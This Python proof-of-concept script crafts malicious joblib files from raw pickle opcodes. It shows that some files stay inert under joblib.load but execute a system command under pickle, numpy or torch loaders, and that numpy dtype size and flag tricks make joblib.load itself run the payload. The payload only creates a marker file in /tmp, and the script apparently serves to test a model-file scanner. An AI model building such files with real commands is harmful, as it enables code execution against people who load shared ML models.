#!/usr/bin/python3
"""Reader differentials and numpy size rules proved live.

differential.joblib: differential.joblib is a joblib file
(NumpyArrayWrapper without alignment, as joblib <= 1.1 writes it) whose
uint8 array bytes are pickle opcodes. joblib.load reads them as array data
and runs nothing; pickle.load, numpy.load(allow_pickle=True) and
torch.load(weights_only=False) -- which all read the file as a plain
pickle -- execute them: the payload creates /tmp/modelvet_joblib_proof.

size_lie.joblib: the f8 dtype's state claims 1 byte per item; numpy uses 8,
so joblib.load reads past where the claim ends and runs the payload there.
flags_true.joblib: the f8 dtype's flags are True, which numpy reads as
NPY_ITEM_HASOBJECT: joblib.load unpickles the "array" data and runs it.

Run with Debian's python3-joblib, -numpy, -torch: /usr/bin/python3 make.py
"""
import os
import pickle
import struct

PROOF = "/tmp/modelvet_joblib_proof"


def u(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


payload = b"cposix\nsystem\n" + u("touch " + PROOF) + b"\x85R0"
dtype = b"cnumpy\ndtype\n" + u("u1") + b"\x89\x88\x87R(K\x03" + u("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
state = u("subclass") + b"cnumpy\nndarray\n" + u("shape") + b"K" + bytes([len(payload)]) + b"\x85" + \
    u("order") + u("C") + u("dtype") + dtype + u("allow_mmap") + b"\x89"
data = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + state + b"ub" + payload + b"."
out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "differential.joblib")
with open(out, "wb") as f:
    f.write(data)


def run(name, load):
    if os.path.exists(PROOF):
        os.remove(PROOF)
    try:
        r = load()
    except Exception as e:  # torch.load fails after the pickle ran
        r = "raised " + type(e).__name__
    ran = os.path.exists(PROOF)
    print(f"{name}: payload ran = {ran} ({str(r)[:40]!r})")
    return ran


import joblib
import numpy as np
import torch


def wrapper_file(name, dtype_state, shape_count, data):
    """A joblib <= 1.1 NumpyArrayWrapper (no alignment) followed by data."""
    dt = b"cnumpy\ndtype\n" + u("f8") + b"\x89\x88\x87R(K\x03" + u("<") + b"NNN" + dtype_state + b"tb"
    st = u("subclass") + b"cnumpy\nndarray\n" + u("shape") + b"K" + bytes([shape_count]) + b"\x85" + \
        u("order") + u("C") + u("dtype") + dt + u("allow_mmap") + b"\x89"
    p = os.path.join(os.path.dirname(os.path.abspath(__file__)), name)
    with open(p, "wb") as f:
        f.write(b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + st + b"ub" + data + b".")
    return p


J = lambda v: b"J" + struct.pack("<i", v)
# The state claims 1 byte per item for f8; numpy ignores it for a fixed
# type and reads 8: a reader trusting the claim stops 14 bytes early,
# joblib.load reads on into the payload and runs it.
size_lie = wrapper_file("size_lie.joblib", J(1) + J(-1) + b"K\x00", 2, b"\x00" * 16 + payload)
# flags True: numpy reads the flags as an int (NPY_ITEM_HASOBJECT = 1), so
# the f8 array "holds objects" and joblib.load unpickles its data.
flags_true = wrapper_file("flags_true.joblib", J(-1) + J(-1) + b"\x88", 1, b"\x80\x02" + payload + b"N.")
assert run(f"joblib.load of size_lie.joblib (numpy {np.__version__})", lambda: joblib.load(size_lie))
assert run("joblib.load of flags_true.joblib", lambda: joblib.load(flags_true))

assert not run(f"joblib.load (joblib {joblib.__version__})", lambda: joblib.load(out))
assert run("pickle.load", lambda: pickle.load(open(out, "rb")))
assert run(f"numpy.load(allow_pickle=True) (numpy {np.__version__})", lambda: np.load(out, allow_pickle=True))
assert run(f"torch.load(weights_only=False) (torch {torch.__version__})", lambda: torch.load(out))
os.remove(PROOF)
